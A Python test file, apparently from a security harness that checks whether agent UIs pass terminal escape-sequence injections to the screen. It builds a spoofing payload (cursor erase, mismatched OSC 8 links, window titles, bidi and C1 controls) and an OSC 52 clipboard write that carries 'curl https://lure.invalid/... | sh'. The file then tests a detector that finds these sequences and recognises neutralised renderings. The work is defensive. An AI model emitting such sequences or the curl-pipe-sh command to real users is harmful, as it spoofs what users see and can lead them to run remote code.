"""The escape payload's exact bytes, and finding them raw in a terminal stream (pure: no recording)."""

from __future__ import annotations

import base64
import json
import re

import pytest

from backchannel.oracle.scenarios.elicitation_ui.escapes import (
    BIDI_EMBEDDING,
    BIDI_ISOLATE,
    BIDI_OVERRIDE,
    C1_CONTROL,
    CLASSES,
    CURSOR_ERASE,
    OSC8_MISMATCH,
    OSC52_CLIPBOARD,
    WINDOW_TITLE,
    detect,
    marker,
    payload,
)
from backchannel.oracle.terminal import plain
from backchannel.proxy.clients.toy_agent_ui_text import neutralise
from tests.oracle.scenarios.elicitation_ui.builder import BIDI_CONTROLS, cat_v, stripped

NONCE = "0123abcd4567ef89"
RAW = payload(NONCE).encode()
CLIP = base64.b64encode(f"BCKCH-CLIP-{NONCE} curl https://lure.invalid/{NONCE} | sh".encode())

EXACT = {
    "cursor-erase": [b"\x1b[1A\x1b[2KBCKCH-CUR-" + NONCE.encode()],
    "osc8-mismatch": [
        b"\x1b]8;;https://lure.invalid/BCKCH-LINK-" + NONCE.encode() + b"\x1b\\https://portal.example.net/settings"
        b"\x1b]8;;\x1b\\"
    ],
    "osc52-clipboard": [b"\x1b]52;c;" + CLIP + b"\x07"],
    "window-title": [
        b"\x1b]0;BCKCH-TITLE-" + NONCE.encode() + b"\x07",
        b"\x1b]2;BCKCH-TITLE-" + NONCE.encode() + b"\x1b\\",
    ],
    "bidi-override": [
        "\u202eBCKCH-RTL-".encode() + NONCE.encode() + "\u202c".encode(),
        "\u202dBCKCH-LTR-".encode() + NONCE.encode() + "\u202c".encode(),
    ],
    "bidi-embedding": [
        "\u202bBCKCH-EMB-".encode() + NONCE.encode() + "\u202c".encode(),
        "\u202aBCKCH-EMB-".encode() + NONCE.encode() + "\u202c".encode(),
    ],
    "bidi-isolate": [
        "\u2066BCKCH-ISO-".encode() + NONCE.encode() + "\u2069".encode(),
        "\u2067BCKCH-ISO-".encode() + NONCE.encode() + "\u2069".encode(),
        "\u2068BCKCH-ISO-".encode() + NONCE.encode() + "\u2069".encode(),
    ],
    "c1-control": [
        b"\xc2\x9b1A\xc2\x9b2KBCKCH-C1-" + NONCE.encode(),  # U+009B, the 8-bit CSI, as UTF-8
        b"\xc2\x9d0;BCKCH-C1-" + NONCE.encode() + b"\xc2\x9c",  # U+009D OSC ... U+009C ST
    ],
}
FIRST_PAYLOAD = (  # the payload before the bidi embedding, isolate and C1 classes: its parts stay, in order
    "Service notice: the settings below changed. [{cursor}] Review them at [{link}]. Status copied [{clip}]. "
    "Window [{title}]. Attachment [{bidi}]. "
)


def test_each_class_has_its_exact_bytes_in_the_payload_and_each_carries_the_nonce():
    assert [c.name for c in CLASSES] == list(EXACT)
    for cls in CLASSES:
        assert [s.encode() for s in cls.sequences(NONCE)] == EXACT[cls.name]
        for sequence in EXACT[cls.name]:
            assert sequence in RAW
            assert NONCE.encode() in sequence or CLIP in sequence


def test_the_first_payloads_parts_open_the_payload_unchanged_and_in_order():
    first = FIRST_PAYLOAD.format(
        cursor=EXACT["cursor-erase"][0].decode(),
        link=EXACT["osc8-mismatch"][0].decode(),
        clip=EXACT["osc52-clipboard"][0].decode(),
        title="".join(t.decode() for t in EXACT["window-title"]),
        bidi=EXACT["bidi-override"][0].decode(),
    )
    assert payload(NONCE).startswith(first)


def test_the_new_classes_sit_between_the_first_payload_and_the_marker():
    rest = payload(NONCE).split("Attachment [", 1)[1]
    assert [word for word in ("Sender [", "Embedded [", "Isolated [", "Control [") if word in rest] == [
        "Sender [", "Embedded [", "Isolated [", "Control [",
    ]  # fmt: skip
    assert rest.index("Control [") < rest.index(marker(NONCE))


def test_the_c1_controls_travel_as_code_points_so_json_carries_them_and_utf_8_writes_c2_9b():
    text = json.loads(json.dumps({"message": payload(NONCE)}))["message"]
    assert "\u009b1A\u009b2K" in text and "\u009d0;" in text
    assert b"\xc2\x9b" in text.encode() and b"\x9b" not in text.encode().replace(b"\xc2\x9b", b"")


def test_the_payload_ends_with_its_visible_marker_and_reads_as_words_between_the_sequences():
    assert payload(NONCE).endswith(f"End of notice {marker(NONCE)}.")
    assert marker(NONCE) == f"BCKCH-ESC-{NONCE}"
    words = plain(RAW).decode("utf-8", "replace")  # plain() drops 9B of C2 9B as an 8-bit CSI, leaving a stray C2
    assert words.startswith("Service notice: the settings below changed.")
    assert "Review them at [https://portal.example.net/settings]" in words  # the link shows a URL it is not


def test_the_osc8_link_target_differs_from_its_text():
    (link,) = OSC8_MISMATCH.sequences(NONCE)
    target = link.split("\x1b\\")[0].removeprefix("\x1b]8;;")
    text = link.split("\x1b\\")[1].split("\x1b")[0]
    assert target.startswith("https://lure.invalid/") and text == "https://portal.example.net/settings"


def test_the_clipboard_write_decodes_to_a_nonce_bearing_command():
    (clip,) = OSC52_CLIPBOARD.sequences(NONCE)
    data = clip.removeprefix("\x1b]52;c;").removesuffix("\x07")
    assert base64.b64decode(data).decode().startswith(f"BCKCH-CLIP-{NONCE} ")


def test_the_payload_written_raw_is_found_class_by_class_at_the_byte_offset_of_each_sequence():
    found = detect(RAW, NONCE)
    assert found.shown and found.marker_offsets == (RAW.index(marker(NONCE).encode()),)
    assert found.classes() == CLASSES
    by_class: dict[str, list[int]] = {}
    for hit in found.hits:
        by_class.setdefault(hit.cls.name, []).append(hit.offset)
        assert RAW[hit.offset] in (0x1B, 0xE2, 0xC2)  # ESC, a bidi control's first byte, or a C1 control's
    assert {name: [RAW.index(s) for s in seqs] for name, seqs in EXACT.items()} == by_class


@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.name)
def test_each_class_alone_is_found_and_names_its_signal(cls):
    raw = b"client says: " + cls.sequences(NONCE)[0].encode() + b" done\n"
    (hit,) = detect(raw, NONCE).hits
    assert (hit.cls, hit.offset) == (cls, len(b"client says: "))
    assert cls.signal == f"escape-{cls.name}"


@pytest.mark.parametrize(
    ("cls", "sequence"), [(c, s) for c in CLASSES for s in c.sequences(NONCE)], ids=lambda v: getattr(v, "name", "")
)
def test_every_sequence_of_a_class_alone_is_found_as_that_class(cls, sequence):
    assert detect(b"> " + sequence.encode() + b"\n", NONCE).classes() == (cls,)


@pytest.mark.parametrize(
    ("cls", "sequence"), [(c, s) for c in CLASSES for s in c.sequences(NONCE)], ids=lambda v: getattr(v, "name", "")
)
def test_every_match_of_a_class_holds_one_of_its_tokens_so_a_stream_without_them_is_not_searched(cls, sequence):
    # detect() looks for a class only in a stream that holds one of its tokens: exact only if every match holds one
    (match,) = cls.pattern(NONCE).finditer(b"> " + sequence.encode() + b"\n")
    assert any(token in match.group() for token in cls.tokens(NONCE))
    without = sequence.encode()
    for token in cls.tokens(NONCE):
        without = without.replace(token, b"BCKCH-GONE")
    assert detect(without, NONCE).hits == ()


C1 = re.compile("[\u0080-\u009f]")
C1_NAMES = {"\u009b": "<CSI>", "\u009c": "<ST>", "\u009d": "<OSC>"}


def _spelled(esc: str, bidi, c1) -> bytes:
    """The payload as a client shows it that spells ESC as `esc` and each bidi and C1 control by `bidi` and `c1`."""
    text = BIDI_CONTROLS.sub(lambda m: bidi(m.group()), payload(NONCE).replace("\x1b", esc))
    return C1.sub(lambda m: c1(m.group()), text).encode()


NEUTRALISED = {
    "caret notation": cat_v(RAW),  # U+009B is M-BM-^[
    "python repr": repr(payload(NONCE)).encode(),  # \x1b, \x9b and \u202e printed literally
    "json": json.dumps(payload(NONCE)).encode(),  # \u001b, \u009b
    "\\e": _spelled("\\e", lambda c: f"\\u{ord(c):04x}", lambda c: f"\\x{ord(c):02x}"),
    "\\033": _spelled("\\033", lambda c: f"<U+{ord(c):04X}>", lambda c: f"<U+{ord(c):04X}>"),
    "<ESC>": _spelled("<ESC>", lambda c: "", lambda c: C1_NAMES[c]),
    "control picture": _spelled("\u241b", lambda c: "", lambda c: ""),
    "rust debug": _spelled("\\u{1b}", lambda c: f"\\u{{{ord(c):x}}}", lambda c: f"\\u{{{ord(c):x}}}"),
    "the toy agent's neutralise": neutralise(payload(NONCE)).encode(),
    "stripped": stripped(RAW),
}


@pytest.mark.parametrize("name", NEUTRALISED)
def test_a_neutralised_rendering_counts_nothing_but_still_shows_the_marker(name):
    found = detect(NEUTRALISED[name], NONCE)
    assert found.hits == () and found.shown


@pytest.mark.parametrize("name", [n for n in NEUTRALISED if n != "stripped"])
def test_a_neutralised_rendering_is_named_as_an_observation(name):
    assert detect(NEUTRALISED[name], NONCE).neutralised


@pytest.mark.parametrize(
    ("shown", "form"),
    [
        ("\\u202dBCKCH-LTR-", "escaped bidi \\u202d, \\u202a-b, \\u2066-9"),
        ("\\u2066BCKCH-ISO-", "escaped bidi \\u202d, \\u202a-b, \\u2066-9"),
        ("<U+202D>BCKCH-LTR-", "bidi as <U+202D>, <U+202A-B>, <U+2066-9>"),
        ("<U+2067>BCKCH-ISO-", "bidi as <U+202D>, <U+202A-B>, <U+2066-9>"),
        ("\\x9b1A\\x9b2KBCKCH-C1-", "literal \\x9b"),
        ("\\u009b1A\\u009b2KBCKCH-C1-", "literal \\u009b"),
        ("<U+009D>0;BCKCH-C1-", "C1 as <U+009B>"),
        ("M-BM-^[1AM-BM-^[2KBCKCH-C1-", "cat -v M-^["),
        ("^[[1A^[[2KBCKCH-CUR-", "caret notation ^["),
    ],
)
def test_each_new_neutralised_form_is_refuted_and_named(shown, form):
    found = detect(shown.encode() + NONCE.encode() + b" " + marker(NONCE).encode(), NONCE)
    assert found.hits == () and found.shown
    assert {n.form for n in found.neutralised} == {form}  # cat -v's M-^[ is not also read as caret notation ^[


def test_a_clients_own_escape_codes_without_the_nonce_bearing_token_never_count():
    own = (
        b"\x1b[31merror\x1b[0m \x1b[1A\x1b[2Kspinner \x1b]0;my-client\x07 \x1b]8;;https://docs.example\x1b\\docs"
        b"\x1b]8;;\x1b\\ \x1b]52;c;aGVsbG8=\x07 " + "\u202eolleh\u202c ".encode() + marker(NONCE).encode()
    )
    found = detect(own, NONCE)
    assert found.hits == () and found.shown


def test_a_clients_own_isolates_embeddings_and_c1_bytes_without_the_nonce_token_never_count():
    own = (
        "\u2068مرحبا\u2069 \u2066user@example\u2069 \u202bשלום\u202c \u202dabc\u202c \u009b1A\u009b2Kspinner "
        "\u009d0;my-client\u009c BCKCH-C1-elsewhere "
    ).encode() + marker(NONCE).encode()
    found = detect(own, NONCE)
    assert found.hits == () and found.shown


def test_a_client_that_isolates_the_whole_neutralised_text_in_its_own_fsi_is_not_confirmed():
    wrapped = "\u2068".encode() + NEUTRALISED["the toy agent's neutralise"] + "\u2069".encode()
    assert detect(wrapped, NONCE).hits == ()


def test_a_c1_byte_far_from_the_nonce_token_does_not_count():
    raw = "\u009b2K".encode() + b"x" * 200 + b"BCKCH-C1-" + NONCE.encode() + b" " + marker(NONCE).encode()
    assert detect(raw, NONCE).hits == ()


def test_a_lone_pop_after_the_nonce_token_closes_nothing_and_does_not_count():
    raw = b"[BCKCH-ISO-" + NONCE.encode() + "\u2069".encode() + b"BCKCH-EMB-" + NONCE.encode() + "\u202c".encode()
    assert detect(raw, NONCE).hits == ()


def test_a_raw_single_0x9b_byte_is_not_the_c1_control_a_json_string_could_carry():
    assert detect(b"\x9b1A\x9b2KBCKCH-C1-" + NONCE.encode(), NONCE).hits == ()


def test_half_a_c1_cursor_pair_against_the_token_still_counts():
    raw = "x \u009b2KBCKCH-C1-".encode() + NONCE.encode()
    (hit,) = detect(raw, NONCE).hits
    assert (hit.cls, hit.offset, hit.length) == (C1_CONTROL, 2, len(raw) - 2)


@pytest.mark.parametrize("opener", ["\u202d", "\u202b", "\u202a", "\u2066", "\u2067", "\u2068"])
def test_a_bidi_opener_against_its_token_counts_even_when_its_pop_was_dropped(opener):
    token = {"\u202d": "LTR", "\u202b": "EMB", "\u202a": "EMB"}.get(opener, "ISO")
    cls = {"LTR": BIDI_OVERRIDE, "EMB": BIDI_EMBEDDING, "ISO": BIDI_ISOLATE}[token]
    assert detect(f"{opener}BCKCH-{token}-{NONCE}".encode(), NONCE).classes() == (cls,)


def test_another_recordings_nonce_is_not_this_servers_payload():
    assert detect(payload("ffffffffffffffff").encode(), NONCE).hits == ()


def test_half_a_cursor_pair_against_the_token_still_counts():
    raw = b"x \x1b[2KBCKCH-CUR-" + NONCE.encode()
    (hit,) = detect(raw, NONCE).hits
    assert (hit.cls, hit.offset, hit.length) == (CURSOR_ERASE, 2, len(raw) - 2)


def test_a_title_with_either_terminator_and_either_osc_number_counts():
    (title0, title2) = WINDOW_TITLE.sequences(NONCE)
    assert title0.endswith("\x07") and title2.endswith("\x1b\\")
    assert len(detect((title0 + title2).encode(), NONCE).hits) == 2


def test_the_bidi_override_counts_even_when_its_pop_was_dropped():
    raw = "\u202eBCKCH-RTL-".encode() + NONCE.encode()
    assert detect(raw, NONCE).classes() == (BIDI_OVERRIDE,)


def test_a_marker_coloured_inside_is_shown_in_the_plain_text_only():
    raw = b"End of notice \x1b[1mBCKCH-ESC-\x1b[0m" + NONCE.encode()
    found = detect(raw, NONCE)
    assert found.shown and found.marker_offsets == ()


def test_no_marker_means_not_shown():
    found = detect(b"\x1b[31mnothing here\x1b[0m\n", NONCE)
    assert (found.shown, found.hits, found.marker_offsets) == (False, (), ())
